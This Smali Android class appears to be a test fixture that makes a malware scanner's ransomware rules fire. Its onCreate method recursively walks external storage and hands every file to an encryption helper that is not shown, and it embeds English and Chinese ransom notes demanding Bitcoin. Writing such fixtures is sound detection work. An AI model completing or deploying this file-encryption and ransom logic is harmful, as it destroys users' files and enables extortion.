.class public Lcom/appwarden/screen/ransom/MainActivity;
.super Landroid/app/Activity;

# Firing twin of ransomware.file_encryption and ransomware.ransom_note (our own code, no sample bytes):
# a method walks external storage and hands each file to a helper class that encrypts it and deletes the
# original (one call away); the note is in const-strings.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-static {}, Landroid/os/Environment;->getExternalStorageDirectory()Ljava/io/File;
    move-result-object v0
    invoke-virtual {p0, v0}, Lcom/appwarden/screen/ransom/MainActivity;->walk(Ljava/io/File;)V
    const-string v1, "Your files have been encrypted. Pay in Bitcoin to decrypt your files."
    const-string v1, "\u4f60\u7684\u6587\u4ef6\u5df2\u88ab\u52a0\u5bc6\uff0c\u4ed8\u6b3e\u89e3\u9501"
    return-void
.end method

.method public walk(Ljava/io/File;)V
    .registers 10
    invoke-virtual {p1}, Ljava/io/File;->listFiles()[Ljava/io/File;
    move-result-object v0
    if-nez v0, :go
    return-void
    :go
    array-length v1, v0
    const/4 v2, 0x0
    :loop
    if-ge v2, v1, :done
    aget-object v3, v0, v2
    invoke-virtual {v3}, Ljava/io/File;->isDirectory()Z
    move-result v4
    if-eqz v4, :file
    invoke-virtual {p0, v3}, Lcom/appwarden/screen/ransom/MainActivity;->walk(Ljava/io/File;)V
    goto :next
    :file
    invoke-static {v3}, Lcom/appwarden/screen/ransom/Crypto;->encrypt(Ljava/io/File;)V
    :next
    add-int/lit8 v2, v2, 0x1
    goto :loop
    :done
    return-void
.end method
